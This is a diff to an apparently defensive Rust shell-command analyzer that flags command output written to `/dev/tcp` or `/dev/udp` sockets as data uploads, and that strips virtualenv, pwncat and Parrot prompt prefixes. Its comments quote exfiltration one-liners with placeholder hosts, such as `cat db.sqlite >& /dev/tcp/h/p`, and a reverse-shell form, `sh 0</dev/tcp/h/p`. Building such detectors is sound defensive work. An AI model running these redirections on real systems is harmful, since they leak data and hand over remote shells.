@@ -732,7 +732,11 @@ impl<'c> Analyzer<'c> {
                     EVIDENCE_MAX,
                 );
                 let red = self.redirects(&list, st, stdin, &evidence, None);
+                let first = self.facts.commands.len();
                 let out = self.walk_compound(cc, st, red.stdin);
+                if let Some(t) = red.stdout_socket {
+                    self.socket_output(&out, &t, first, None, &evidence);
+                }
                 self.route_stdout(out, red.stdout_file)
             }
             ast::Command::Function(def) => {
@@ -970,6 +974,11 @@ impl<'c> Analyzer<'c> {
             self.check_env(&name, &val, &w.value);
             env.push((name, val));
         }
+        // Standard output sent to a socket: the program's name and the line, for the upload.
+        let socket = red.stdout_socket.map(|t| {
+            let prog = args.first().map(|a| paths::basename(&a.text).to_string());
+            (t, prog, evidence.clone())
+        });
         let inv = Inv {
             args,
             cwd: st.cwd.clone(),
@@ -979,7 +988,11 @@ impl<'c> Analyzer<'c> {
             env,
             decls,
         };
+        let first = self.facts.commands.len();
         let out = self.run_inv(inv, st);
+        if let Some((t, prog, ev)) = socket {
+            self.socket_output(&out, &t, first, prog.as_deref(), &ev);
+        }
         self.route_stdout(out, red.stdout_file)
     }
 
@@ -1058,6 +1071,7 @@ impl<'c> Analyzer<'c> {
         let mut out = Redirected {
             stdin,
             stdout_file: None,
+            stdout_socket: None,
         };
         for r in list {
             match r {
@@ -1074,6 +1088,13 @@ impl<'c> Analyzer<'c> {
                                 self.tcp_rw = Some(format!("{host}:{}", p.next().unwrap_or("")));
                             }
                             self.net_redirect(&res.path, matches!(kind, K::Read), prog, evidence);
+                            if matches!(
+                                kind,
+                                K::Write | K::Clobber | K::Append | K::DuplicateOutput
+                            ) && fd.is_none_or(|f| f == 1)
+                            {
+                                out.stdout_socket = socket_target(&res.path);
+                            }
                             // Standard input from the socket: the program reads what the peer
                             // sends (a shell runs it as commands: `sh 0</dev/tcp/h/p`).
                             if matches!(kind, K::Read | K::ReadAndWrite | K::DuplicateInput)
@@ -1129,6 +1150,7 @@ impl<'c> Analyzer<'c> {
                                 || res.path.starts_with("/dev/udp/")
                             {
                                 self.net_redirect(&res.path, false, prog, evidence);
+                                out.stdout_socket = socket_target(&res.path);
                                 continue;
                             }
                             let ev = format!("{kind} {}", w.value);
@@ -1163,6 +1185,7 @@ impl<'c> Analyzer<'c> {
                     let res = paths::resolve(&arg, &st.cwd);
                     if res.path.starts_with("/dev/tcp/") || res.path.starts_with("/dev/udp/") {
                         self.net_redirect(&res.path, false, prog, evidence);
+                        out.stdout_socket = socket_target(&res.path);
                         continue;
                     }
                     let how = if *append {
@@ -1203,6 +1226,62 @@ impl<'c> Analyzer<'c> {
         if !read {
             self.upload(prog.unwrap_or("bash"), &target, None, false, evidence);
         }
+    }
+
+    /// What a command printed, written to a `/dev/tcp` or `/dev/udp` socket (`/readflag >
+    /// /dev/tcp/h/p`, `{ id; uname -a; } > /dev/tcp/h/p`, `cat db.sqlite >& /dev/tcp/h/p`): an
+    /// upload of data made at run time to that peer, source `<output of PROG>` (PROG the first
+    /// program run, shells left out; the files it read are path facts of their own, so a
+    /// credential sent so is a credential read next to an upload) or `<sent secret NAME>`
+    /// for a secret-named variable printed. Text fixed in the command line (`echo >
+    /// /dev/tcp/h/p`, a port check; `echo "m 1 $(date +%s)"`, a metric) is no upload of the
+    /// machine's data unless it carries a file's content, the environment or a secret variable.
+    /// `first`: the index of the first command fact the redirected command recorded.
+    fn socket_output(
+        &mut self,
+        out: &Stream,
+        target: &str,
+        first: usize,
+        prog: Option<&str>,
+        evidence: &str,
+    ) {
+        // A shell joined to the socket is a reverse shell, a fact of its own.
+        if self
+            .facts
+            .remote_exec
+            .iter()
+            .any(|r| r.kind == "reverse_shell")
+        {
+            return;
+        }
+        let ran: Vec<&str> = self
+            .facts
+            .commands
+            .get(first..)
+            .unwrap_or_default()
+            .iter()
+            .map(|c| c.program.as_str())
+            .filter(|p| !programs::is_shell(p))
+            .collect();
+        let carries =
+            out.taint.read.is_some() || out.taint.env_dump || out.taint.secret_var.is_some();
+        let printer = ran
+            .iter()
+            .all(|p| matches!(*p, "echo" | "printf" | "true" | ":" | "date" | "sleep"));
+        if !carries && (out.text.is_some() || printer) {
+            return;
+        }
+        let name = ran
+            .first()
+            .copied()
+            .or(prog)
+            .unwrap_or("a compound command")
+            .to_string();
+        let source = match &out.taint.secret_var {
+            Some(v) => format!("<sent secret {v}>"),
+            None => format!("<output of {name}>"),
+        };
+        self.upload(&name, target, Some(source), false, evidence);
     }
 
     /// The stream a file yields when read (content known when written earlier in the command).
@@ -1842,6 +1921,19 @@ impl<'c> Analyzer<'c> {
 pub(crate) struct Redirected {
     pub stdin: Stream,
     pub stdout_file: Option<String>,
+    /// The `host:port` of a `/dev/tcp` or `/dev/udp` socket standard output is written to
+    /// (`/readflag > /dev/tcp/h/p`): what the command prints goes to that peer.
+    pub stdout_socket: Option<String>,
+}
+
+/// `host:port` of a `/dev/tcp/HOST/PORT` or `/dev/udp/HOST/PORT` path.
+fn socket_target(path: &str) -> Option<String> {
+    let rest = path
+        .strip_prefix("/dev/tcp/")
+        .or_else(|| path.strip_prefix("/dev/udp/"))?;
+    let mut p = rest.split('/');
+    let host = p.next().unwrap_or("");
+    Some(format!("{host}:{}", p.next().unwrap_or("")))
 }
 
 /// Most string literals of an unparseable source analysed as commands.
@@ -1883,6 +1975,27 @@ pub(crate) fn after_prompt(command: &str) -> Option<&str> {
     let rest = rest.trim_start();
     if rest.is_empty() {
         return None;
+    }
+    // A tag in parentheses before the prompt: a Python virtualenv or conda environment
+    // (`(venv) user@host:~$ `, `(base) …`) or pwncat's `(remote) user@host:/dir$ `.
+    if word.len() > 2
+        && word.starts_with('(')
+        && word.ends_with(')')
+        && word[1..word.len() - 1]
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.'))
+    {
+        return after_prompt(rest);
+    }
+    // Parrot's two-line prompt, whose second line keeps the `$`/`#` apart from its glyphs and
+    // may glue it to the command (`└──╼ $cp …`, `└──╼ # id`).
+    if word.starts_with(['└', '╰'])
+        && word
+            .chars()
+            .all(|c| matches!(c, '└' | '╰' | '─' | '╼' | '╸' | '▶' | '>'))
+    {
+        let r = rest.strip_prefix(['$', '#'])?.trim_start();
+        return (!r.is_empty()).then_some(r);
     }
     let body = word.trim_end_matches(['$', '#', '>', '%']);
     let prompt = match word {
